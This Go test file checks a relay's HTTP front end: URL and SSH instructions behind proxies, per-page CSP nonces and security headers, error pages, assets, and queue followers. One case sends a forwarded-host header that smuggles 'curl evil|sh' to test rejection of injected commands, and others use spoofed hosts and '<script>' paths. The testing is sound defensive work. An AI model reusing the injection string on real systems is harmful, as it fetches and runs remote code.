package httpfront_test

import (
	"compress/gzip"
	"io"
	"net/netip"
	"regexp"
	"strings"
	"testing"

	"patchwork/httpfront"
)

const asksHTML = "text/html,application/xhtml+xml,*/*;q=0.8"

func TestAPageSaysHowThisRelayIsReached(t *testing.T) {
	door := func() httpfront.SSHDoor { return httpfront.SSHDoor{Port: 2022, Fingerprint: "SHA256:abc+/def"} }
	trusting := func(c *httpfront.Config) {
		c.SSH, c.TrustedProxies = door, []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}
	}
	for name, c := range map[string]struct {
		change  func(*httpfront.Config)
		headers []string
		base    string
	}{
		"as it was asked":       {nil, []string{"Host", "relay.example:8080"}, "http://relay.example:8080"},
		"by a trusted proxy":    {trusting, []string{"X-Forwarded-Proto", "https", "X-Forwarded-Host", "relay.example"}, "https://relay.example"},
		"by one that is not":    {nil, []string{"X-Forwarded-Proto", "https", "X-Forwarded-Host", "evil.example"}, ""},
		"as the operator said":  {func(c *httpfront.Config) { c.PublicURL = "https://patch.example" }, nil, "https://patch.example"},
		"a host that is a trap": {trusting, []string{"X-Forwarded-Host", "relay.example';curl evil|sh;'"}, "http://localhost"},
		"the nearest of many":   {trusting, []string{"X-Forwarded-Host", "evil.example, relay.example"}, "http://relay.example"},
		"an IPv6 address":       {trusting, []string{"X-Forwarded-Host", "[2001:db8::1]:80"}, "http://[2001:db8::1]:80"},
	} {
		t.Run(name, func(t *testing.T) {
			r := start(t, func(cfg *httpfront.Config) {
				cfg.SSH = door
				if c.change != nil {
					c.change(cfg)
				}
			})
			want := c.base
			if want == "" {
				want = r.url
			}
			if len(c.headers) > 0 && c.headers[0] == "Host" { // Go's client takes it otherwise
				w := r.dial("GET / HTTP/1.1\r\nHost: " + c.headers[1] + "\r\nAccept: text/html\r\nConnection: close\r\n\r\n")
				res, _ := w.answer()
				text, err := io.ReadAll(res.Body)
				if err != nil || !strings.Contains(string(text), "curl -s "+want+"/p/jobs") {
					t.Errorf("%v\n%s", err, text)
				}
				return
			}
			a := r.get("/", append(c.headers, "Accept", asksHTML)...)
			host, _, _ := strings.Cut(strings.TrimPrefix(strings.TrimPrefix(want, "https://"), "http://"), ":")
			if strings.Contains(want, "[") {
				host = "2001:db8::1"
			}
			for _, part := range []string{"curl -s " + want + "/p/jobs", "ssh -p 2022 " + host + " help", "SHA256:abc&#43;/def"} {
				if !strings.Contains(a.body, part) && !strings.Contains(a.body, strings.ReplaceAll(part, "&#43;", "+")) {
					t.Errorf("it does not say %q", part)
				}
			}
			if strings.Contains(a.body, "evil") {
				t.Error("it repeats what somebody else said")
			}
			text := r.get("/", append(c.headers, "Accept", "*/*")...)
			if text.code != 200 || !strings.HasPrefix(text.header.Get("Content-Type"), "text/plain") || !strings.Contains(text.body, want+"/p/jobs") {
				t.Errorf("to curl it says %d %s", text.code, text.body)
			}
		})
	}
}

func TestPagesAreServedSoThatNothingElseRunsInThem(t *testing.T) {
	r := start(t, func(c *httpfront.Config) { c.PublicURL = "https://relay.example" })
	nonces := map[string]bool{}
	for _, path := range []string{"/", "/terminal", "/inspect", "/inspect/r/%3Cscript%3E", "/inspect/../x", "/drop", "/docs", "/docs/http"} {
		a := r.get(path, "Accept", asksHTML)
		if a.code != 200 {
			t.Errorf("%s: %d %s", path, a.code, a.body)
			continue
		}
		policy := a.header.Get("Content-Security-Policy")
		nonce := regexp.MustCompile(`script-src 'nonce-([^']+)'`).FindStringSubmatch(policy)
		if nonce == nil || nonces[nonce[1]] {
			t.Errorf("%s has no nonce of its own: %s", path, policy)
			continue
		}
		nonces[nonce[1]] = true
		for _, tag := range regexp.MustCompile(`<(script|link rel="stylesheet")[^>]*>`).FindAllString(a.body, -1) {
			if !strings.Contains(tag, `nonce="`+nonce[1]+`"`) {
				t.Errorf("%s: %s is not named by the policy", path, tag)
			}
		}
		for _, part := range []string{"default-src 'none'", "connect-src 'self'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'self'", "require-trusted-types-for 'script'"} {
			if !strings.Contains(policy, part) {
				t.Errorf("%s: the policy does not say %s", path, part)
			}
		}
		if loose := strings.Contains(policy, "unsafe"); loose != (path == "/terminal") || strings.Contains(policy, "script-src 'self'") {
			t.Errorf("%s: %s", path, policy)
		}
		for name, want := range map[string]string{
			"X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer", "X-Frame-Options": "DENY", "Cross-Origin-Opener-Policy": "same-origin",
			"Cache-Control": "no-store", "Access-Control-Allow-Origin": "",
		} {
			if got := a.header.Get(name); got != want {
				t.Errorf("%s: %s is %q, want %q", path, name, got, want)
			}
		}
		if strings.Contains(a.body, "<script>") {
			t.Errorf("%s: a name has become an element", path)
		}
	}
	wantLine(t, r.post("/terminal", "x"), 405, "allowed are GET, HEAD")
	wantLine(t, r.get("/docs/nothing"), 404, "no such page in the manual")
	wantLine(t, r.get("/assets/../pages.go"), 404, "no such file")
	wantLine(t, r.get("/terminal/x"), 404, "nothing at this path")
}

// TestErrorsWhereThePagesAreLookLikeThem asks as browsers do and as curl does, on
// paths of the pages and on those of channels, whose answers scripts read.
func TestErrorsWhereThePagesAreLookLikeThem(t *testing.T) {
	r := start(t)
	for path, line := range map[string]string{
		"/docs/nothing": "There is no such page in the manual; /docs lists them.", "/terminal/x": "There is nothing at this path; channels are at /p/NAME.",
		"/%3Cscript%3E": "There is nothing at this path; channels are at /p/NAME.", "/assets/nothing.js": "There is no such file.",
	} {
		a := r.get(path, "Accept", asksHTML)
		if a.code != 404 || a.header.Get("Content-Type") != "text/html; charset=utf-8" || !strings.Contains(a.body, "<h1>Not found</h1>") || !strings.Contains(a.body, line) {
			t.Errorf("%s: %d %v\n%s", path, a.code, a.header, a.body)
		}
		if policy := a.header.Get("Content-Security-Policy"); !strings.Contains(policy, "script-src 'nonce-") || a.header.Get("X-Frame-Options") != "DENY" || a.header.Get("Vary") != "Accept" {
			t.Errorf("%s is served with %v", path, a.header)
		}
		if strings.Contains(a.body, "<script") {
			t.Errorf("%s: the page has a script", path)
		}
		plain := r.get(path, "Accept", "*/*")
		wantLine(t, plain, 404, strings.TrimSuffix(line, ".")[1:])
		if plain.header.Get("Vary") != "Accept" {
			t.Errorf("%s: a cache would give curl's answer to browsers", path)
		}
	}
	a := r.post("/terminal", "x", "Accept", asksHTML)
	if a.code != 405 || a.header.Get("Allow") != "GET, HEAD" || !strings.Contains(a.body, "<h1>That did not work</h1>") {
		t.Errorf("%d %v\n%s", a.code, a.header, a.body)
	}
	wantLine(t, r.get("/p/../x", "Accept", asksHTML), 400, "")
	wantLine(t, r.get("/u/nobody/x", "Accept", asksHTML), 401, "")
	wantLine(t, r.get("/rss/none", "Accept", asksHTML), 404, "")
}

func TestAssetsAreKeptAndCompressed(t *testing.T) {
	r := start(t)
	a := r.get("/assets/site.css", "Accept-Encoding", "gzip;q=0")
	if a.code != 200 || a.header.Get("Content-Type") != "text/css; charset=utf-8" || a.header.Get("Content-Encoding") != "" || !strings.Contains(a.body, ":root") {
		t.Fatalf("%d %v", a.code, a.header)
	}
	zipped := r.get("/assets/site.css", "Accept-Encoding", "br, gzip")
	in, err := gzip.NewReader(strings.NewReader(zipped.body))
	if err != nil {
		t.Fatal(err)
	}
	if text, err := io.ReadAll(in); err != nil || string(text) != a.body {
		t.Errorf("compressed it is %d bytes, %v", len(text), err)
	}
	want(t, r.get("/assets/site.css", "If-None-Match", a.header.Get("Etag"), "Accept-Encoding", "gzip;q=0"), 304, "")
	wantLine(t, r.get("/assets/nothing.js"), 404, "no such file")
	if icon := r.get("/favicon.ico"); icon.header.Get("Content-Type") != "image/svg+xml" {
		t.Errorf("the icon is %q", icon.header.Get("Content-Type"))
	}
}

func TestNoTunnelShadowsAPage(t *testing.T) {
	for _, prefix := range []string{"terminal", "inspect", "drop", "docs", "assets", "favicon.ico", "robots.txt", "static", "_", "rss", "huproxy", "healthz", "p"} {
		if !httpfront.Reserved(prefix) {
			t.Errorf("a tunnel could take /%s", prefix)
		}
	}
	if httpfront.Reserved("my-app") {
		t.Error("my-app is nobody's")
	}
}

func TestAFollowerMaySayHowLongItStays(t *testing.T) {
	r := start(t)
	for _, accept := range []string{"application/x-ndjson", "text/event-stream"} {
		got := later(func() answer { return r.get("/p/window?for=400ms&json", "Accept", accept) })
		r.followers("window", 1)
		want(t, r.post("/p/window?pubsub", "one"), 200, "")
		want(t, r.post("/p/window", "of a queue"), 200, "")
		a := soon(t, got)
		if a.err != nil || a.code != 200 || !strings.Contains(a.body, `"body":"one"`) || !strings.Contains(a.body, `"body":"of a queue"`) {
			t.Errorf("%s: %d %s %v", accept, a.code, a.body, a.err)
		}
	}
	r.empty()
	wantLine(t, r.get("/p/window?for=x", "Accept", "application/x-ndjson"), 400, "bad ?for=")
	wantLine(t, r.get("/p/window?for=0", "Accept", "application/x-ndjson"), 400, "bad ?for=")
	wantLine(t, r.get("/p/window?json=x", "Accept", "text/event-stream"), 400, "bad ?json=")
}

// TestALastingFloodDoesNotKeepAFollowerThatWantsToGo sends queue messages without
// a pause: each is received once, by the first follower or by whoever comes next.
func TestALastingFloodDoesNotKeepAFollowerThatWantsToGo(t *testing.T) {
	r := start(t)
	stop := make(chan struct{})
	sent := later(func() answer {
		n := 0
		for {
			select {
			case <-stop:
				return answer{code: n}
			default:
			}
			if a := r.post("/p/flood?timeout=5s", "m"); a.code != 200 {
				return answer{code: -1, body: a.body, err: a.err}
			}
			n++
		}
	})
	first := r.get("/p/flood?for=300ms", "Accept", "application/x-ndjson")
	next := later(func() answer { return r.get("/p/flood?for=2s", "Accept", "application/x-ndjson") })
	r.followers("flood", 1)
	before := r.broker.Stats().Delivered
	until(t, "something for the next one", func() bool { return r.broker.Stats().Delivered > before+3 })
	close(stop)
	a, second := soon(t, sent), soon(t, next)
	got := strings.Count(first.body, "\n") + strings.Count(second.body, "\n")
	if first.err != nil || second.err != nil || a.code < 2 || got != a.code {
		t.Errorf("%d were sent (%v %s), and %d received: %v, %v", a.code, a.err, a.body, got, first.err, second.err)
	}
}
